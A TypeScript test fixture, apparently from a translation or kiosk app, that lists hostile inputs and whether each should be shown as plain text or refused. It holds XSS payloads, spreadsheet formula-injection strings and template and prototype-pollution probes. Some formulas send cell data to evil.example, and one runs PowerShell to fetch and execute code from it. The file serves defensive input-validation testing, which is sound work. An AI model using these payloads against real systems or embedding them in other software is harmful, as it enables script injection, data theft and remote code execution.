import type { RefusedReason } from '../../../core/translation/returned-texts.ts';

/** Words that somebody may send on purpose: shown as they stand (`shown`), or refused with the reason. */
export type Attack = readonly [words: string, outcome: 'shown' | RefusedReason];

const all = (outcome: Attack[1], ...words: readonly string[]): readonly Attack[] =>
  words.map((each) => [each, outcome] as const);

/** The window shows text as text; markup in it is nothing but characters. */
const MARKUP = all(
  'shown',
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">Vidare</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">Vidare</a>',
  '<body onload=alert(1)>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<object data="x.swf"></object>',
  '<embed src="x.swf">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import"//evil.example/x.css";</style>',
  '<form action=//evil.example><input name=a></form>',
  '<template><script>alert(1)</script></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  ']]><target>Annat</target>',
  '</target><target>Annat',
  '</t></is></c><c t="str"><f>1+1</f></c>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&amp;lt;b&amp;gt;',
  '&entity; &lol9;',
  '<?xml-stylesheet href="//evil.example/x.xsl"?>',
  '<!DOCTYPE x [<!ENTITY a "b">]>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '`-alert(1)-`',
  'javascript:alert(1)',
  '\\u003cscript\\u003e',
  '%3Cscript%3E',
  '_x003C_script_x003E_',
  '_x005F_x003C_',
  '_X0041_ _x00e5_',
);

const FORMULAS = all(
  'shown',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget evil.example)'!A0",
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"Vidare")',
  '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe!'",
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=A1',
  "'=1+1",
  '";=1+1;"',
  ',=1+1',
  '%0A-3+3',
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  'R1C1',
  '1/2',
  '2026-11-23',
  '1E5',
  '007',
  'TRUE',
  '#REF!',
);

const CONTROLS = [
  ...all(
    'controlCharacter',
    'Dölj\0det',
    'Dölj\u0001',
    'Dölj\u0007det',
    'Dölj\bdet',
    'Dölj\u001B[2Jdet',
    'Dölj\u007Fdet',
  ),
  ...all('controlCharacter', 'Dölj\ndet', 'Dölj\r\ndet', 'Dölj\tdet', 'Dölj\u0085det', 'Dölj\u009B2Jdet'),
  ...all('controlCharacter', 'Dölj\u2028det', 'Dölj\u2029det', 'D\uFFFDlj'),
  ...all('superfluousSpaces', ' Dölj', 'Dölj ', 'Dölj  det', 'Dölj\u00A0', '\tDölj', '\n=1+1', '\uFEFF=1+1'),
  ...all('empty', ' ', '\t', '\u00A0', '\u3000'),
];

const INVISIBLE = [
  ...all(
    'bidiControl',
    'Dölj\u202Edet',
    'Dölj\u202Ddet',
    'Dölj\u202Adet\u202C',
    'Dölj\u2066det\u2069',
    'Dölj\u2067det',
  ),
  ...all('bidiControl', 'Dölj\u2068det', 'Dölj\u200Edet', 'Dölj\u200Fdet', 'Dölj\u061Cdet'),
  ...all(
    'invisibleCharacter',
    'Dölj\u200Bdet',
    'Dölj\u200Cdet',
    'Dölj\u200Ddet',
    'Dölj\u2060det',
    'D\u00ADölj',
    'D\uFEFFölj',
  ),
  ...all('invisibleCharacter', 'Dölj\u2062det', 'Dölj\u{E0041}\u{E007F}', '👩\u200D👩'),
];

const SCRIPTS = [
  ...all(
    'wrongScript',
    'D\u043Elj',
    'Dölj \u0430',
    '\u03BDidare',
    'לסגור',
    'إخفاء',
    '隠す',
    '\u115F',
    '\u3164',
    'D\u034Flj',
  ),
  ...all(
    'wrongScript',
    'D\uD800lj',
    'D\uDC00lj',
    'D\uE000lj',
    'D\u{10FFFF}lj',
    'D\uFFFElj',
    'Z\u0335\u0321\u0356',
    'D\u2800lj',
  ),
  ...all('notComposed', 'Do\u0308lj', 'A\u030A', 'e\u0301'),
];

const PLACEHOLDERS = [
  ...all('placeholders', '{{name}}', '{{__proto__}}', '{{constructor}}', '{{a}}{{a}}', '{{{a}}}'),
  ...all(
    'strayBrace',
    '{name}',
    '{{name',
    'name}}',
    '{{- name}}',
    '{{ name }}',
    '{{name, uppercase}}',
    '{{a.b}}',
    '{0}',
  ),
  ...all(
    'strayBrace',
    '${name}',
    '#{name}',
    '{n, plural, one {en} other {flera}}',
    '{{constructor.constructor("x")()}}',
  ),
  ...all('otherText', '$t(kiosk.hide)', 'Dölj $t(desk.pin)', '$t(kiosk.hide, "count")'),
  ...all('shown', '%s %d %n', '$name', '$1 $& $`', '%(name)s', ':name', '__proto__', 'constructor', 'hasOwnProperty'),
];

const HUGE = all('tooLong', 'a'.repeat(2001), '😀'.repeat(1001), '=1+1;'.repeat(200_000), '<b>'.repeat(100_000));

const LABELS = all('labelsAPerson', 'Är du missbrukare?', 'PATIENT', 'Klienten');

export const ATTACKS: readonly Attack[] = [
  ...MARKUP,
  ...FORMULAS,
  ...CONTROLS,
  ...INVISIBLE,
  ...SCRIPTS,
  ...PLACEHOLDERS,
  ...HUGE,
  ...LABELS,
];
